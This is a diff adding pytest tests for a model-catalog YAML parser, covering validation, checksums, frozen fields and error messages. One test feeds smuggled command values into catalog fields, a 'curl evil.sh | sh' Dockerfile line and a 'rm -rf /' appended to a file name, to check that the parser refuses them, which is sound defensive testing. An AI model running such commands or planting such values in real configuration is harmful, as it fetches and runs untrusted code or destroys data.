@@ -1,0 +1,83 @@
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+import yaml
+
+from mlbox.catalog import load_catalog, parse_catalog
+from mlbox.errors import CatalogError
+from tests.conftest import REPO
+
+
+def repo_catalog_data() -> dict:
+    return yaml.safe_load((REPO / "images.yaml").read_text())
+
+
+def test_repo_catalog_is_valid_and_frozen() -> None:
+    catalog = load_catalog(REPO / "images.yaml")
+    resnet = catalog.models["resnet50"]
+    assert resnet.default_variant == "onnx-opset11-fp32"
+    published = resnet.variants["onnx-opset11-fp32"]
+    assert published.md5 == "f6a4da60cd5f084d97efc2c1ddb10beb"
+    assert published.url == "https://zenodo.org/record/4735647/files/resnet50_v1.onnx"
+    assert resnet.variants["synthetic"].is_synthetic
+    with pytest.raises(ValueError, match="frozen"):
+        resnet.default_variant = "synthetic"  # type: ignore[misc]
+
+
+def test_unknown_key_is_refused_with_its_path_and_a_suggestion() -> None:
+    data = repo_catalog_data()
+    data["models"]["resnet50"]["variants"]["synthetic"]["fiel"] = "x.onnx"
+    with pytest.raises(CatalogError) as err:
+        parse_catalog(yaml.safe_dump(data))
+    text = str(err.value)
+    assert "models.resnet50.variants.synthetic.fiel: unknown key; did you mean 'file'?" in text
+
+
+def test_bad_checksum_value_names_the_field() -> None:
+    data = repo_catalog_data()
+    data["models"]["resnet50"]["variants"]["onnx-opset11-fp32"]["md5"] = "not-a-md5"
+    with pytest.raises(CatalogError, match=r"models\.resnet50\.variants\.onnx-opset11-fp32\.md5"):
+        parse_catalog(yaml.safe_dump(data))
+
+
+@pytest.mark.parametrize(
+    ("where", "value"),
+    [
+        (("defaults", "base_image"), "debian\nRUN curl evil.sh | sh"),
+        (("models", "resnet50", "variants", "synthetic", "file"), "x.onnx; rm -rf /"),
+        (("models", "resnet50", "description"), 'a"b'),
+    ],
+)
+def test_values_that_could_inject_dockerfile_lines_are_refused(where: tuple[str, ...], value: str) -> None:
+    data = repo_catalog_data()
+    node = data
+    for key in where[:-1]:
+        node = node[key]
+    node[where[-1]] = value
+    with pytest.raises(CatalogError, match=".".join(where)):
+        parse_catalog(yaml.safe_dump(data))
+
+
+def test_default_variant_must_exist() -> None:
+    data = repo_catalog_data()
+    data["models"]["resnet50"]["default_variant"] = "nope"
+    with pytest.raises(CatalogError, match="default_variant 'nope' is not one of its variants"):
+        parse_catalog(yaml.safe_dump(data))
+
+
+def test_downloaded_model_needs_a_checksum() -> None:
+    data = repo_catalog_data()
+    del data["models"]["resnet50"]["variants"]["onnx-opset11-fp32"]["md5"]
+    with pytest.raises(CatalogError, match="needs 'md5' or 'sha256'"):
+        parse_catalog(yaml.safe_dump(data))
+
+
+def test_missing_file_and_bad_yaml(tmp_path: Path) -> None:
+    with pytest.raises(CatalogError, match="catalog not found"):
+        load_catalog(tmp_path / "nope.yaml")
+    bad = tmp_path / "bad.yaml"
+    bad.write_text("models: [\n")
+    with pytest.raises(CatalogError, match="not valid YAML"):
+        load_catalog(bad)
